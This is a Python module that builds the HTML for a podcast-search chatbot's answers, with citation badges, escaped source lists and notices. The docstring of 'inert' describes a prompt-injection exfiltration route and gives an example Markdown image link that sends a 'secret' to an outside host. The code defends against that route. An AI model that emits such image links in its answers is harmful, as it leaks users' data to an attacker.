"""The chat page's HTML for one answer: ``[n]`` markers as badges that link to the numbered
sources listed under it, notices, and the follow-up line.

The answer text is Markdown (an LLM may use lists or emphasis); the sources are HTML built here
from index metadata, every corpus string escaped. Each answer gets its own anchor prefix so
marker [2] of the third answer links to that answer's source 2, not the first answer's.
"""

from __future__ import annotations

import html
import re

from assistant.schema import Answer, Citation
from assistant.text import shorten

THINKING = '<span class="ea-thinking">Searching the episodes…</span>'
MARKER = re.compile(r"\[(\d+)\]")


def escape_text(value: str) -> str:
    """Corpus or user text made safe as HTML element content."""
    return html.escape(value, quote=False)


def _attr(value: str) -> str:
    """Text made safe inside a double-quoted HTML attribute."""
    return html.escape(value, quote=True)


def _anchor(prefix: str, n: int) -> str:
    return f"{prefix}-{n}"


def inert(text: str) -> str:
    """Markdown that loads nothing: no images, no raw HTML.

    ``![x](http://host/?d=secret)`` in a model's answer, a quoted passage or a user's message
    made the browser fetch that URL as the answer streamed: a channel out for whatever a
    prompt injection gets the model to write. Image syntax is shown as text, and so is any
    HTML tag (the page's sanitizer keeps ``<img src=…>``); the page's Content-Security-Policy
    refuses images from anywhere else as well (``ImagesPolicy``).
    """
    return text.replace("<", "&lt;").replace("![", "!\\[")


def render_markers(text: str, prefix: str, citations: list[Citation] | None = None) -> str:
    """``[n]`` markers as numbered badges linking to source ``n`` of the same answer (the
    text made inert first: see ``inert``)."""
    text = inert(text)
    headings = {c.n: c.heading() for c in citations or []}

    def badge(match: re.Match[str]) -> str:
        n = int(match.group(1))
        title = _attr(headings.get(n, f"Source {n}"))
        return (
            f'<a class="ea-cite" href="#{_anchor(prefix, n)}" title="{title}" '
            f'aria-label="source {n}">{n}</a>'
        )

    return MARKER.sub(badge, text)


def render_source(citation: Citation, prefix: str) -> str:
    """One source: number, episode and title, chapter, timestamp (a link when the episode
    has a URL), speaker, and the quoted words. One line of HTML, so Markdown leaves it alone."""
    e = escape_text  # every string here comes from the corpus
    kind = ' <span class="ea-kind">article</span>' if citation.kind == "article" else ""
    meta = []
    if citation.chapter:
        meta.append(f'<span class="ea-chapter">{e(citation.chapter)}</span>')
    if citation.timestamp:
        # The chapter's start is exact; "≈05:12" says where in it the words likely are.
        stamp = e(citation.when or citation.timestamp)
        at = citation.estimate or citation.timestamp
        if citation.url:
            stamp = (
                f'<a class="ea-time" href="{_attr(citation.url)}" target="_blank" '
                f'rel="noopener noreferrer" title="Open the episode at {_attr(at)}">'
                f"{stamp}</a>"
            )
        else:
            stamp = f'<span class="ea-time">{stamp}</span>'
        meta.append(stamp)
    elif citation.url:
        meta.append(
            f'<a class="ea-time" href="{_attr(citation.url)}" target="_blank" '
            'rel="noopener noreferrer">open</a>'
        )
    if citation.speaker:
        meta.append(f'<span class="ea-speaker">{e(citation.speaker)}</span>')
    quote = " ".join(citation.quote.split())
    return (
        f'<li class="ea-source" id="{_anchor(prefix, citation.n)}">'
        f'<span class="ea-num">{citation.n}</span><div class="ea-body">'
        f'<div class="ea-head"><span class="ea-ep">{e(citation.episode)}</span>{kind} '
        f'<span class="ea-title">{e(citation.episode_title)}</span></div>'
        f'<div class="ea-meta">{" · ".join(meta)}</div>'
        f'<blockquote class="ea-quote">“{e(quote)}”</blockquote></div></li>'
    )


def render_sources(citations: list[Citation], prefix: str, title: str = "Sources") -> str:
    """The numbered source list shown under an answer (empty string when there are none)."""
    if not citations:
        return ""
    items = "".join(render_source(c, prefix) for c in citations)
    return (
        f'<div class="ea-sources"><div class="ea-sources-title">{escape_text(title)}</div>'
        f'<ol class="ea-list">{items}</ol></div>'
    )


def render_notice(text: str, kind: str = "notice") -> str:
    """A highlighted one-line message: a fallback notice, or a friendly error."""
    return f'<div class="ea-{kind}">{escape_text(text)}</div>'


def render_partial(text: str, prefix: str) -> str:
    """The answer so far, while it streams."""
    return render_markers(text.strip(), prefix) or THINKING


def render_answer(answer: Answer, prefix: str) -> str:
    """The finished answer: notice, text with linked markers, and its sources or see-also."""
    parts = []
    if answer.notice:
        parts.append(render_notice(answer.notice))
    parts.append(render_markers(answer.text, prefix, answer.citations))
    if answer.standalone_question and answer.standalone_question != answer.question:
        # Shows that a follow-up was read in the light of the conversation, and how.
        parts.append(
            '<div class="ea-followup">Follow-up, searched as: '
            f"“{escape_text(shorten(answer.standalone_question, 300))}”</div>"
        )
    if answer.abstained:
        parts.append(render_sources(answer.see_also, prefix + "s", "See also: closest passages"))
    else:
        parts.append(render_sources(answer.citations, prefix))
    # Blank lines keep Markdown paragraphs and HTML blocks apart.
    return "\n\n".join(p for p in parts if p)
